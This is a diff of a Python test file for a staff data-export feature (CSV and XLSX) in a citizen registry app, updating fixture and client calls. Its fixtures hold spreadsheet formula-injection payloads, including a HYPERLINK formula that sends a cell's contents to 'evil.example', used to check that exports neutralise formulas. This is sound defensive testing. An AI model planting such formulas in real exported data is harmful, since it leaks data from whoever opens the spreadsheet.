@@ -25,16 +25,16 @@ EVIL_EMPLOYER = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 @pytest.fixture
 def people() -> None:
-    ani = CitizenFactory(full_name="Ani Rahayu")
+    ani = CitizenFactory.create(full_name="Ani Rahayu")
     citizen_update(citizen=ani, actor=None, data={"phone": "+60123456789", "email": "ani@example.com"})
     child = dependant_add(citizen=ani, actor=None, full_name="Dina", relationship="child")
     stay_register(citizen=ani, actor=None, lat=3.139, lon=101.6869, city="Kuala Lumpur", purpose="work",
                   occupation="domestic_worker", employer=EVIL_EMPLOYER, start_date=dt.date(2026, 1, 1),
                   dependants=[child.pk])
-    mallory = CitizenFactory(full_name="@SUM(1+1)*cmd")
+    mallory = CitizenFactory.create(full_name="@SUM(1+1)*cmd")
     stay_register(citizen=mallory, actor=None, lat=3.15, lon=101.7, city="-2+3", purpose="study",
                   start_date=dt.date(2026, 1, 1))
-    StayFactory(citizen=CitizenFactory(full_name="Citra Jeddah"), lat=21.5433, lon=39.1728, purpose="work")
+    StayFactory.create(citizen=CitizenFactory.create(full_name="Citra Jeddah"), lat=21.5433, lon=39.1728, purpose="work")
 
 
 def test_formula_guard() -> None:
@@ -47,7 +47,7 @@ def test_csv_export_is_streamed_guarded_and_audited(people: None) -> None:
     response = staff_client(officer).get("/konsol/sebaran/ekspor.csv", HTTP_ACCEPT_LANGUAGE="en")
     assert response.status_code == 200 and response.streaming
     assert response["Content-Type"].startswith("text/csv") and "attachment" in response["Content-Disposition"]
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
     assert rows[0][0] == "Name" and len(rows) == 3  # the header and the two stays of Kuala Lumpur
     by_name = {row[0]: row for row in rows[1:]}
     assert set(by_name) == {"Ani Rahayu", "'@SUM(1+1)*cmd"}
@@ -61,10 +61,10 @@ def test_csv_export_is_streamed_guarded_and_audited(people: None) -> None:
 
 def test_xlsx_export_reads_back_with_the_same_cells(client: Client, people: None) -> None:
     analyst = make_staff("HQ-PWNI", Role.PROTECTION_ANALYST)
-    response = client.get("/api/v1/staff/where/export.xlsx?purpose=work", **bearer(analyst))
+    response = client.get("/api/v1/staff/where/export.xlsx?purpose=work", headers=bearer(analyst))
     assert response.status_code == 200, response.content
     assert response["Content-Type"] == where_export.XLSX_TYPE
-    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).worksheets[0]
+    sheet = load_workbook(io.BytesIO(response.getvalue()), read_only=True).worksheets[0]
     rows = [list(row) for row in sheet.iter_rows(values_only=True)]
     assert len(rows) == 3
     assert [row[0] for row in rows[1:]] == ["Ani Rahayu", "Citra Jeddah"]
@@ -79,8 +79,8 @@ def test_a_spreadsheet_too_large_is_refused_with_a_clear_message_but_csv_streams
     monkeypatch.setattr(where_export, "XLSX_MAX_ROWS", 2)
     admin = make_staff("HQ-PWNI", Role.ADMINISTRATOR)
     api = bearer(admin)
-    refused = client.get("/api/v1/staff/where/export.xlsx", **api)
+    refused = client.get("/api/v1/staff/where/export.xlsx", headers=api)
     assert refused.status_code == 422 and "CSV" in refused.json()["detail"]
     assert not AuditEvent.objects.filter(action="citizens.where.export").exists()  # nothing was read
-    assert client.get("/api/v1/staff/where/export.csv", **api).status_code == 200
+    assert client.get("/api/v1/staff/where/export.csv", headers=api).status_code == 200
     assert staff_client(admin).get("/konsol/sebaran/ekspor.pdf").status_code == 422
